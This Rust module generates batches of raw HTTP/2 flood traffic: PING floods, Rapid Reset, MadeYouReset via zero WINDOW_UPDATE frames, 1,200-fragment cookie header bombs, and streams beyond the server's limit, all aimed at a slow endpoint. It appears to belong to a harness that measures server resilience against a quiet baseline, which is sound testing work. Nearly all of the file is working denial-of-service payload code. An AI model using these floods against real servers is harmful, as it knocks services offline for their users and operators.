//! What the attackers send: HTTP/2 frames by the batch (RFC 9113, RFC 7541), each kind of flood in its own way.

use crate::http2::{frame, literal};
use crate::peers::HOST;

/// A kind of flood.
#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub(crate) enum Kind {
    /// Nobody attacks.
    Quiet,
    /// PING after PING.
    Ping,
    /// Requests that are begun and reset at once.
    RapidReset,
    /// Requests that the client makes the server reset (WINDOW_UPDATE of nothing).
    MadeYouReset,
    /// Requests with more than a thousand crumbs of a cookie.
    CookieCrumbs,
    /// More requests than streams may be open, on top of as many as may be.
    OverLimit,
}

impl Kind {
    /// All of them, the quiet one first.
    pub(super) const ALL: [Kind; 6] =
        [Kind::Quiet, Kind::Ping, Kind::RapidReset, Kind::MadeYouReset, Kind::CookieCrumbs, Kind::OverLimit];

    /// As it is called on the command line.
    pub(super) fn name(self) -> &'static str {
        match self {
            Kind::Quiet => "quiet",
            Kind::Ping => "ping",
            Kind::RapidReset => "rapid-reset",
            Kind::MadeYouReset => "made-you-reset",
            Kind::CookieCrumbs => "cookie-crumbs",
            Kind::OverLimit => "over-limit",
        }
    }

    /// As it is called in tables.
    pub(super) fn title(self) -> &'static str {
        match self {
            Kind::Quiet => "quiet",
            Kind::Ping => "PING",
            Kind::RapidReset => "rapid reset",
            Kind::MadeYouReset => "MadeYouReset",
            Kind::CookieCrumbs => "cookie crumbs",
            Kind::OverLimit => "streams over the limit",
        }
    }

    /// Frames of one batch.
    fn batch(self) -> u32 {
        match self {
            Kind::CookieCrumbs => 2,
            Kind::OverLimit => 200,
            _ => 100,
        }
    }
}

/// Streams that a connection can begin before its numbers end.
const LAST_STREAM: u32 = 0x7fff_0000;

/// What comes next on one connection.
#[derive(Debug)]
pub(super) struct Flood {
    kind: Kind,
    stream: u32,
    head: Vec<u8>,
}

impl Flood {
    /// At the beginning of a connection.
    pub(super) fn new(kind: Kind) -> Flood {
        // `:method GET`, `:scheme https` (RFC 7541 §6.1), path and authority as literals (§6.2.2).
        let mut head = vec![0x82, 0x87];
        literal(0x04, b"/slow?ms=20000", &mut head);
        literal(0x01, HOST.as_bytes(), &mut head);
        if kind == Kind::CookieCrumbs {
            // `cookie` is entry 32 of the static table.
            (0..1_200).for_each(|_| head.extend_from_slice(&[0x0f, 0x11, 5, b'a', b'=', b'1', b'2', b'3']));
        }
        Flood { kind, stream: 1, head }
    }

    /// The preface and empty SETTINGS.
    pub(super) fn preface() -> Vec<u8> {
        [&b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"[..], &frame(0x04, 0, 0, &[])].concat()
    }

    /// Whether the connection has no streams left.
    pub(super) fn is_used_up(&self) -> bool {
        self.stream > LAST_STREAM
    }

    /// Appends a batch; gives how many frames or requests it has.
    pub(super) fn next(&mut self, out: &mut Vec<u8>) -> u32 {
        for _ in 0..self.kind.batch() {
            if self.kind == Kind::Ping {
                out.extend_from_slice(&frame(0x06, 0, 0, b"flooding"));
                continue;
            }
            // END_HEADERS and END_STREAM.
            out.extend_from_slice(&frame(0x01, 0x05, self.stream, &self.head));
            match self.kind {
                Kind::RapidReset => out.extend_from_slice(&frame(0x03, 0, self.stream, &8_u32.to_be_bytes())),
                Kind::MadeYouReset => out.extend_from_slice(&frame(0x08, 0, self.stream, &[0; 4])),
                _ => {}
            }
            self.stream += 2;
        }
        self.kind.batch()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_have_the_length_they_say() {
        for kind in Kind::ALL {
            let (mut flood, mut out) = (Flood::new(kind), Vec::new());
            flood.next(&mut out);
            flood.next(&mut out);
            let (mut rest, mut frames) = (&out[..], 0);
            while let [high, middle, low, _, _, _, _, _, _, behind @ ..] = rest {
                let length = usize::from(*high) << 16 | usize::from(*middle) << 8 | usize::from(*low);
                assert!(length <= 16_384 && length <= behind.len(), "{}: {length}", kind.name());
                rest = &behind[length..];
                frames += 1;
            }
            assert!(rest.is_empty() && frames >= 2 * kind.batch());
        }
    }
}
